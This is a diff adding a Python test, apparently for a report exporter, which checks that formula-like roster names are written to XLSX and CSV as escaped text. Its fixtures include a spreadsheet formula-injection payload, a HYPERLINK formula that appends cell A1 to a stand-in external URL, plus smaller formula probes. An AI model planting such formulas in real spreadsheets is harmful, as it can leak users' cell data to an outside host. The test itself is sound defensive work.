@@ -136,3 +136,26 @@ def test_activity_stamped_in_the_future_is_flagged_in_exports():
     stamps = pd.Series([pd.Timestamp("2026-03-01T02:00Z"), pd.Timestamp("2099-01-01T00:00Z"), pd.NaT])
     text = report._local(stamps, now=dt.datetime(2026, 3, 20, tzinfo=dt.UTC)).tolist()
     assert text == ["2026-03-01 10:00", "2099-01-01 08:00（时间异常）", ""]
+
+
+def test_formula_like_cells_are_exported_as_text(tmp_path):
+    """Issue 9: a roster name `=HYPERLINK(…)` was a live formula in the XLSX export."""
+    import io
+
+    import pandas as pd
+
+    evil = '=HYPERLINK("http://example.invalid/?"&A1,"点我")'
+    frame = pd.DataFrame(
+        {"姓名": [evil, "+1+1", "@SUM(A1)", "-2+3", "张三"], "得分": [-5, 1, 2, 3, 4], "手机": ["139"] * 5}
+    )
+    book = openpyxl.load_workbook(io.BytesIO(report.xlsx_bytes({"明细": frame})))
+    cells = [row[0] for row in book["明细"].iter_rows(min_row=2)]
+    assert [c.data_type for c in cells] == ["s"] * 5, "no cell is a formula"
+    assert [c.value for c in cells] == ["'" + evil, "'+1+1", "'@SUM(A1)", "'-2+3", "张三"]
+    scores = [row[1].value for row in book["明细"].iter_rows(min_row=2)]
+    assert scores == [-5, 1, 2, 3, 4], "numbers stay numbers"
+    import csv
+
+    rows = list(csv.reader(io.StringIO(report.csv_bytes(frame).decode("utf-8-sig"))))
+    assert [r[0] for r in rows[1:]] == ["'" + evil, "'+1+1", "'@SUM(A1)", "'-2+3", "张三"]
+    assert [r[1] for r in rows[1:]] == ["-5", "1", "2", "3", "4"]
